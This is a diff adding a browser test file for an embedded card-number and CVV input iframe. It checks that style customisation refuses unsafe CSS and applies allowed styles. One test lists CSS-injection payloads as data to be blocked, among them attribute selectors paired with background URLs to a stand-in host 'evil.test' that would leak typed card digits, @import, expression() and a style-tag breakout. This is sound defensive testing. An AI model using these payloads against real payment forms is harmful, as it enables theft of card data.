@@ -1,0 +1,153 @@
+import type { Browser } from 'playwright';
+import { afterAll, beforeAll, expect, test, vi } from 'vitest';
+import { openBrowser } from '../test/open-browser.ts';
+import { openFields, type OpenFields } from '../test/open-fields.ts';
+import { soon } from '../test/open-shop.ts';
+
+vi.setConfig({ testTimeout: 30_000 });
+
+let browser: Browser;
+beforeAll(async () => void (browser = await openBrowser()));
+afterAll(() => browser.close());
+
+const look = (shop: OpenFields, field: 'number' | 'cvv', property: string, part?: string) =>
+  shop[field].evaluate((input, [name, pseudo]) => getComputedStyle(input, pseudo).getPropertyValue(name ?? ''), [
+    property,
+    part,
+  ] as const);
+
+const refused = [
+  ['*', 'background-image', 'url(https://evil.test/?4)'],
+  ['*', 'background', 'red'],
+  ['*', 'position', 'fixed'],
+  ['*', 'content', 'attr(value)'],
+  ['*', '--x', 'red'],
+  ['*', 'src', 'x'],
+  ['cvv', 'transition', 'color 1s'],
+  ['*', 'constructor', 'red'],
+] as const;
+const refusedValues = [
+  ['color', 'url(https://evil.test/)'],
+  ['color', 'var(--x)'],
+  ['color', 'red; background: url(//evil.test)'],
+  ['color', 'red } input[value^="4"] { background: url(//evil.test) } x {'],
+  ['color', 'expression(alert(1))'],
+  ['color', 'rgb(calc(1), 2, 3)'],
+  ['color', 'image-set(url(x))'],
+  ['color', '\\75rl(https://evil.test/)'],
+  ['color', '12px'],
+  ['padding', 'env(safe-area-inset-top)'],
+  ['font-family', '@import url(//evil.test)'],
+  ['font-family', 'x</style><img src=//evil.test>'],
+  ['font-size', 'calc(1px + var(--x))'],
+  ['opacity', 'attr(value)'],
+  ['padding-x', '1px'],
+  ['color', 'color-mix(in srgb, red, blue)'],
+] as const;
+const refusedSelectors = [
+  'input[value^="4"]',
+  '@import "//evil.test"',
+  '@font-face',
+  '*, body',
+  '* {} *',
+  'cardNumber ~ *',
+  '*:has(x)',
+  '#field',
+  '::before',
+  'constructor',
+];
+
+test('K31 css-exfil: properties, values and selectors that are not allowed are refused by name', async () => {
+  const shop = await openFields(browser);
+  const errors = new Set<unknown>();
+  for (const [selector, property, value] of refused) {
+    await shop.call('setStyle', selector, { [property]: value });
+    errors.add(`The style \`${property}\` is not allowed.`);
+  }
+  for (const [property, value] of refusedValues) {
+    await shop.call('setStyle', '*', { [property]: value });
+    errors.add(`The value of the style \`${property}\` is not allowed.`);
+  }
+  for (const selector of refusedSelectors) {
+    await shop.call('setStyle', selector, { color: 'red' });
+    errors.add(`The style \`${selector}\` is not allowed.`);
+  }
+  // Both fields refuse each; what is for one field alone, that one.
+  const count = 2 * (refused.length + refusedValues.length + refusedSelectors.length) - 1;
+  await soon(() => shop.told('error')).toHaveLength(count);
+  expect(new Set(shop.told('error').map(({ error }) => error))).toEqual(errors);
+  expect(shop.told('error').every(({ action, field }) => action === 'style' && typeof field === 'string')).toBe(true);
+  expect(await look(shop, 'number', 'color')).toBe('rgb(0, 0, 0)');
+  expect(await look(shop, 'number', 'background-image')).toBe('none');
+  expect(shop.notes.violation).toEqual([]);
+});
+
+test('allowed styles apply to both fields, to one, and to states and parts', async () => {
+  const shop = await openFields(browser, {
+    init: `{ styles: {
+      '*': { color: 'rgb(1, 2, 3)', fontSize: '18px', padding: '0 12px', 'letter-spacing': '0.5px' },
+      cardNumber: { color: '#0a0b0c', 'font-family': '"A B", serif' },
+      '*.invalid': { color: 'hsl(0 100% 50% / 1)' },
+      '::placeholder': { opacity: 0.5 },
+      'cvv:focus': { 'background-color': 'oklch(0 0 0)' },
+    } }`,
+  });
+  expect(await look(shop, 'number', 'color')).toBe('rgb(10, 11, 12)');
+  expect(await look(shop, 'number', 'font-family')).toBe('"A B", serif');
+  expect(await look(shop, 'cvv', 'color')).toBe('rgb(1, 2, 3)');
+  expect(await look(shop, 'cvv', 'padding')).toBe('0px 12px');
+  expect(await look(shop, 'cvv', 'font-size')).toBe('18px');
+  expect(await look(shop, 'cvv', 'opacity', '::placeholder')).toBe('0.5');
+  await shop.call('setInvalid', 'cardNumber', true);
+  await soon(() => look(shop, 'number', 'color')).toBe('rgb(255, 0, 0)');
+  await shop.call('focus', 'cvv');
+  await soon(() => look(shop, 'cvv', 'background-color')).toBe('oklch(0 0 0)');
+  await shop.call('setStyle', 'cardNumber', { color: 'green', fontFamily: '' });
+  await shop.call('setInvalid', 'cardNumber', false);
+  await soon(() => look(shop, 'number', 'color')).toBe('rgb(0, 128, 0)');
+  expect(shop.told('error')).toEqual([]);
+});
+
+test('without styles the text looks as it does around the frame, and the frame fills its place', async () => {
+  const shop = await openFields(browser, {
+    context: { colorScheme: 'dark' },
+    style: `
+      body { background: #101418; color: rgb(230, 231, 232); font: 600 20px/1.2 Georgia, 'Ä b', serif; letter-spacing: 0.333333px }
+      iframe { width: 7px; height: auto; border: 3px solid; margin: 9px; opacity: 0.1 }`,
+  });
+  expect(await look(shop, 'number', 'color')).toBe('rgb(230, 231, 232)');
+  expect(await look(shop, 'number', 'font-size')).toBe('20px');
+  expect(await look(shop, 'number', 'font-weight')).toBe('600');
+  expect(await look(shop, 'number', 'font-family')).toContain('Georgia');
+  expect(await look(shop, 'number', 'letter-spacing')).toBe('0.333333px');
+  const boxes = await shop.page.locator('#number, #number iframe').evaluateAll((all) =>
+    all.map((element) => {
+      const { clientWidth, clientHeight } = element;
+      const { opacity, margin, borderTopWidth, colorScheme } = getComputedStyle(element);
+      return {
+        clientWidth,
+        clientHeight,
+        opacity,
+        margin,
+        isFrame: element.tagName === 'IFRAME',
+        borderTopWidth,
+        colorScheme,
+      };
+    }),
+  );
+  const [place, frame] = boxes;
+  expect(frame).toEqual({
+    ...place,
+    isFrame: true,
+    borderTopWidth: '0px',
+    colorScheme: 'light',
+  });
+  expect(shop.told('error')).toEqual([]);
+});
+
+test('in forced colours the field shows its focus itself', async () => {
+  const shop = await openFields(browser, { context: { forcedColors: 'active' } });
+  await shop.number.focus();
+  expect(await look(shop, 'number', 'outline-style')).toBe('solid');
+  expect(await look(shop, 'cvv', 'outline-style')).toBe('none');
+});
